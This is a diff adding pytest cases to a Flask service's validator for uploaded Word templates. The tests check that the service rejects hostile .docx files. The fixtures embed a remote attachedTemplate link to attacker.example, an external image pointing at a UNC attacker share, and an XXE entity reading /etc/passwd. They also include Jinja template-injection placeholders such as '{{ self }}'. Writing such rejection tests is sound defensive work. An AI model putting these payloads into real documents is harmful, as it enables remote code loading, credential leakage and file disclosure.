@@ -203,6 +203,28 @@ def _external(parts: dict[str, bytes]) -> None:
         b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
 
 
+def _upper_case_rels(parts: dict[str, bytes]) -> None:
+    """The attack: an external attachedTemplate in a part named ".RELS"."""
+    parts["word/_rels/settings.xml.RELS"] = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="http://attacker.example/t.dotm" TargetMode="EXTERNAL"/></Relationships>')
+
+
+def _upper_case_external_image(parts: dict[str, bytes]) -> None:
+    parts["word/_rels/document.xml.rels"] = parts.pop("word/_rels/document.xml.rels").replace(
+        b"</Relationships>",
+        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
+        b'Target="\\\\attacker\\share\\x.png" TargetMode="External"/></Relationships>')
+    parts["WORD/_RELS/DOCUMENT.XML.RELS"] = parts.pop("word/_rels/document.xml.rels")
+
+
+def _attached_template_setting(parts: dict[str, bytes]) -> None:
+    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+        b"</w:settings>", b'<w:attachedTemplate r:id="rId1"/></w:settings>')
+
+
 def _entity(parts: dict[str, bytes]) -> None:
     parts["word/document.xml"] = parts["word/document.xml"].replace(
         b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)
@@ -223,6 +245,9 @@ def _no_body(parts: dict[str, bytes]) -> None:
 @pytest.mark.parametrize("name, change, status, words", [
     ("macro", _macro, 422, "宏"),
     ("external", _external, 422, "外部链接"),
+    ("upper-case-rels", _upper_case_rels, 422, "attachedTemplate"),
+    ("upper-case-external", _upper_case_external_image, 422, "外部链接"),
+    ("attached-template-setting", _attached_template_setting, 422, "attachedTemplate"),
     ("entity", _entity, 422, "DTD"),
     ("path", _path_trick, 422, "路径"),
     ("bomb", _bomb, 413, "压缩炸弹"),
@@ -281,6 +306,17 @@ def test_placeholders_are_names_only(client: FlaskClient, expression: str) -> No
     resp = upload(client, letterhead(extra=expression))
     assert time.monotonic() - started < 60  # a hang guard, not a speed test
     assert resp.status_code == 422 and "只能是字段名" in resp.get_json()["error"]["message"]
+
+
+def test_only_field_names_pass_as_placeholders_each_named_with_its_position(client: FlaskClient) -> None:
+    """The attack: placeholders that are Jinja expressions but no field name."""
+    attack = ["{{ self }}", "{{ 49 }}", "{{ true }}", "{{ 1e999 }}"]
+    resp = upload(client, letterhead(extra="前文" + "".join(attack)))
+    assert resp.status_code == 422
+    message = resp.get_json()["error"]["message"]
+    for expression in attack:
+        assert f"{expression}（正文第 3 段）" in message, message
+    assert client.get("/api/v1/unit-templates").get_json()["unit_templates"] == []
 
 
 def test_the_web_form_uses_unit_templates_too(client: FlaskClient) -> None:
